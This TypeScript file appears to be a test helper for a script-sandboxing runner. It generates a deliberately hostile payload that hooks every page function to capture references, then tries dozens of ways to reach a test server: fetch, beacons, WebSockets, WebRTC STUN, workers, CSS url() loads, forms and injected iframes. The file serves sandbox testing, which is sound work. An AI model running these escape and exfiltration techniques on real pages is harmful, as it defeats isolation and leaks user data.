/** Where the ways out lead: a server and a STUN server of the test. */
export interface Outside {
  readonly base: string
  readonly stun: string
}

/** What the code got. */
export interface Loot {
  /** How many functions it replaced. */
  readonly replaced: number
  /** Functions that make forbidden elements. */
  readonly makers: number
  /** Forbidden elements in the page. */
  readonly elements: number
  readonly frames: number
  /** Windows in which nothing was removed. */
  readonly realms: number
}

/**
 * The code of an effect that replaces every function of the page, keeps what others hand to them, and then tries every
 * way to the network. Its last error says what it got. With a lie the replaced functions answer that instead of the
 * truth whenever the runner could call them.
 */
export function hostileEffect(outside: Outside, lie?: { readonly answer: unknown }): string {
  return `(${attack.toString()})(${JSON.stringify(outside)}, ${lie === undefined ? '' : JSON.stringify(lie)})`
}

// Runs in the frame, so it uses nothing of this file.
function attack({ base, stun }: Outside, lie?: { readonly answer?: unknown }): void {
  const { apply, construct, defineProperty, getOwnPropertyDescriptor, getPrototypeOf, ownKeys, setPrototypeOf } =
    Reflect
  const { stringify } = JSON
  const { createElement, createElementNS, querySelectorAll } = Document.prototype
  const { add } = Set.prototype
  const setMarkup = getOwnPropertyDescriptor(Element.prototype, 'innerHTML')?.set as (markup: string) => void
  const Failure = Error as ErrorConstructor & { prepareStackTrace?: unknown }
  const xhtml = 'http://www.w3.org/1999/xhtml'
  const closed = 'link, meta, base, iframe, frame, frameset, fencedframe, portal, object, embed, applet'

  const received = new Set<unknown>()
  let isKeeping = false
  let isLying = false
  function keep(value: unknown) {
    if (typeof value === 'function' || (typeof value === 'object' && value !== null)) apply(add, received, [value])
  }
  function replacementOf(original: CallableFunction) {
    const replacement = function (this: unknown, ...given: unknown[]) {
      if (isKeeping) {
        keep(this)
        for (let at = 0; at < given.length; at++) keep(given[at])
      }
      if (isLying) return lie?.answer
      if (new.target === undefined) return apply(original, this, given)
      return construct(original, given, new.target === replacement ? original : new.target)
    }
    if (original.prototype !== undefined) {
      replacement.prototype = original.prototype
      setPrototypeOf(replacement, original)
    }
    return replacement
  }

  const holders = new Set<object>([globalThis])
  for (const name of ownKeys(globalThis)) {
    const value = getOwnPropertyDescriptor(globalThis, name)?.value
    if (value === globalThis || value === null) continue
    if (typeof value === 'object' || typeof value === 'function') holders.add(value)
    if (typeof value === 'function' && value.prototype !== undefined) holders.add(value.prototype)
  }
  for (const list of [[], new Map(), new Set(), '', 'a'.matchAll(/a/g)]) {
    holders.add(getPrototypeOf(list[Symbol.iterator]()) as object)
  }
  // All are prepared before the first is replaced.
  const plan: { holder: object; name: PropertyKey; anew: PropertyDescriptor }[] = []
  for (const holder of holders) {
    for (const name of ownKeys(holder)) {
      const found = getOwnPropertyDescriptor(holder, name)
      if (found === undefined || name === 'constructor' || name === 'prepareStackTrace') continue
      const { value, get, set, configurable, writable } = found
      if (configurable !== true && writable !== true) continue
      const anew = { ...found }
      if (typeof value === 'function') anew.value = replacementOf(value)
      if (get !== undefined) anew.get = replacementOf(get) as () => unknown
      if (set !== undefined) anew.set = replacementOf(set) as (value: unknown) => void
      if (typeof value === 'function' || get !== undefined || set !== undefined) plan.push({ holder, name, anew })
    }
  }
  let replaced = 0
  for (let at = 0; at < plan.length; at++) {
    const { holder, name, anew } = plan[at] as (typeof plan)[number]
    if (defineProperty(holder, name, anew)) replaced++
  }

  /** Calls what the runner replaced, while the replaced functions keep what they are handed. */
  function provoke<Result>(call: () => Result): Result {
    isKeeping = true
    isLying = lie !== undefined
    try {
      return call()
    } finally {
      isKeeping = false
      isLying = false
    }
  }
  const make = (name: unknown): Element => provoke(() => apply(createElement, document, [name]))
  const makeNS = (name: unknown): Element => provoke(() => apply(createElementNS, document, [xhtml, name]))
  function put(markup: string, element = make('div')) {
    provoke(() => apply(setMarkup, element, [markup]))
    document.body.append(element)
  }
  const tries: (() => unknown)[] = []

  // What the runner does for the code of an effect, and who called.
  Failure.prepareStackTrace = (_error: unknown, sites: { getFunction(): unknown; getThis(): unknown }[]) => {
    for (const site of sites) {
      keep(site.getFunction())
      keep(site.getThis())
    }
    return ''
  }
  const spy = function (this: unknown) {
    keep(spy.caller)
    keep(this)
    return `b${new Failure('x').stack}`
  } as CallableFunction & { caller: unknown }
  tries.push(
    () => make({ toString: spy }),
    () => makeNS({ toString: spy }),
    () => provoke(() => document.createElementNS({ toString: spy } as never, 'b')),
    () => make('<').toString(),
    () => provoke(() => customElements.define({ toString: spy } as never, class extends HTMLElement {})),
    () => provoke(() => customElements.define('x-b', class extends HTMLElement {}, { extends: 'link' })),
    () => put('<p>text<b>'),
    () => provoke(() => console.log('text', { a: 1 })),
    () => provoke(() => document.createRange().createContextualFragment('<iframe><link>') as unknown),
  )

  // Forbidden elements, which would have everything that the runner removed.
  const nested = `<script>new RTCPeerConnection({iceServers:[{urls:"${stun}"}]}).createOffer()</script>`
  for (const tag of closed.split(', ')) {
    const attributes = `src="${base}/${tag}" href="${base}/${tag}" data="${base}/${tag}" rel="preconnect" srcdoc='${nested}'`
    for (const spelled of [tag, tag.toUpperCase(), `${tag}\t`, `${tag}/`, `x:${tag}`])
      tries.push(() => put(`<${spelled} ${attributes}>`))
    tries.push(
      () => document.body.append(make(tag)),
      () => document.body.append(makeNS(`x:${tag}`)),
      () =>
        put(
          `<x:${tag} xmlns:x="${xhtml}" ${attributes}/>`,
          new Document().createElementNS(xhtml, 'div') as HTMLElement as never,
        ),
      () => {
        const other = document.implementation.createHTMLDocument('')
        provoke(() => apply(setMarkup, other.body, [`<${tag} ${attributes}>`]))
        document.body.append(document.adoptNode(other.body))
      },
      () => {
        const template = make('template') as HTMLTemplateElement
        provoke(() => apply(setMarkup, template, [`<div><${tag} ${attributes}></div>`]))
        document.body.append(template.content)
      },
      () => provoke(() => document.body.insertAdjacentHTML('beforeend', `<${tag} ${attributes}>`)),
    )
  }

  // Everything else that makes a request.
  const set = (name: string, attributes: Record<string, string>) => {
    const element = make(name) as HTMLElement
    for (const [key, value] of Object.entries(attributes)) {
      try {
        element.setAttribute(key, value)
      } catch {}
    }
    document.body.append(element)
    return element
  }
  const runner = Array.from(document.scripts, ({ integrity }) => integrity)
  const any = globalThis as unknown as Record<string, new (...given: unknown[]) => Record<string, unknown>>
  const call = navigator as unknown as Record<string, (...given: unknown[]) => unknown>
  tries.push(
    () => fetch(`${base}/fetch`, { mode: 'no-cors', keepalive: true }),
    () => (globalThis as unknown as Record<string, (url: string) => unknown>).fetchLater?.(`${base}/later`),
    () => navigator.sendBeacon(`${base}/beacon`, 'x'),
    () => new WebSocket(`${base.replace('http', 'ws')}/socket`),
    () => new EventSource(`${base}/events`),
    () => any.WebSocketStream && new any.WebSocketStream(`${base.replace('http', 'ws')}/stream`),
    () => any.WebTransport && new any.WebTransport(base.replace('http:', 'https:')).ready,
    () => {
      const request = new XMLHttpRequest()
      request.open('POST', `${base}/xhr`)
      request.send('x')
    },
    () => new Worker(`${base}/worker`),
    () => new SharedWorker(`data:text/javascript,fetch("${base}/shared-worker")`),
    () => new Worker(URL.createObjectURL(new Blob([`fetch("${base}/blob-worker")`]))),
    () => new AudioContext().audioWorklet.addModule(`${base}/worklet`),
    () => new FontFace('x', `url(${base}/font)`).load(),
    () => new Image().setAttribute('srcset', `${base}/srcset 1x`),
    () => set('img', { src: `${base}/img`, attributionsrc: `${base}/attribution`, lowsrc: `${base}/low` }),
    () => set('video', { src: `${base}/video`, poster: `${base}/poster`, autoplay: '' }),
    () =>
      set('video', {
        src: `data:application/vnd.apple.mpegurl,%23EXTM3U%0A%23EXTINF:9,%0A${base}/hls.ts`,
        autoplay: '',
      }),
    () => put(`<video autoplay><source src="${base}/source"><track default src="${base}/track"></video>`),
    () => set('input', { type: 'image', src: `${base}/input` }),
    () => set('body', { background: `${base}/background` }),
    () => set('script', { src: `${base}/script`, integrity: runner[0] ?? '' }),
    () => set('script', { type: 'module', src: `${base}/module` }),
    () => put(`<svg><image href="${base}/svg"/><use href="${base}/use#x"/><feImage href="${base}/fe"/></svg>`),
    () =>
      put(
        `<style>@import "${base}/import"; @font-face { font-family: y; src: url(${base}/face) } p { font-family: y; background: url(${base}/css), image-set("${base}/set" 1x); cursor: url(${base}/cursor), auto; filter: url(${base}/filter#x); mask: url(${base}/mask); shape-outside: url(${base}/shape); list-style: url(${base}/list) } p::after { content: url(${base}/content) }</style><p>text</p>`,
      ),
    () =>
      document.adoptedStyleSheets.push(
        Object.assign(new CSSStyleSheet(), {}).insertRule(`b { background: url(${base}/sheet) }`) as never,
      ),
    () => open(`${base}/open`),
    () => open('about:blank')?.document.write(nested),
    () => set('a', { href: `${base}/blank`, target: '_blank' }).click(),
    () => set('a', { href: `${base}/top`, target: '_top' }).click(),
    () => set('a', { href: `javascript:fetch("${base}/javascript")` }).click(),
    () => set('a', { href: '#', ping: `${base}/ping` }).click(),
    () => (set('form', { action: `${base}/form`, method: 'post' }) as HTMLFormElement).submit(),
    () => (set('form', { action: `${base}/form-top`, target: '_top' }) as HTMLFormElement).submit(),
    () => {
      const rules = make('script') as HTMLScriptElement
      rules.type = 'speculationrules'
      rules.append(stringify({ prefetch: [{ source: 'list', urls: [`${base}/prefetch`] }] }))
      document.body.append(rules)
    },
    () =>
      any.PaymentRequest &&
      new any.PaymentRequest([{ supportedMethods: `${base}/pay` }], {
        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
      }),
    () =>
      navigator.credentials.get({
        identity: { providers: [{ configURL: `${base}/identity`, clientId: 'x' }] },
      } as never),
    () => call.joinAdInterestGroup?.({ owner: base, name: 'x', biddingLogicURL: `${base}/bid` }, 60),
    () => new RTCPeerConnection({ iceServers: [{ urls: stun }] }).createOffer(),
    () => any.DOMParser && new any.DOMParser(),
    () => document.write(`<link rel="preconnect" href="${base}">`),
    () => document.execCommand('insertHTML', false, `<iframe srcdoc='${nested}'></iframe>`),
  )
  for (const attempt of tries) {
    try {
      const result = attempt() as { catch?: (handler: () => void) => void } | undefined
      result?.catch?.(() => {})
    } catch {}
  }

  let makers = 0
  let realms = 0
  const isClosed = (element: unknown) => element instanceof Element && element.matches(closed)
  for (const value of [...received]) {
    try {
      if ((value as Window & typeof globalThis).RTCPeerConnection !== undefined) realms++
    } catch {}
    if (typeof value !== 'function') continue
    for (const given of [['iframe'], [xhtml, 'link']]) {
      try {
        if (isClosed(apply(value, document, given))) makers++
      } catch {}
    }
  }
  // As long as a browser may take for a request.
  setTimeout(() => {
    const elements = apply(querySelectorAll, document, [closed]).length
    throw new Failure(stringify({ replaced, makers, elements, frames: window.length, realms }))
  }, 1500)
}
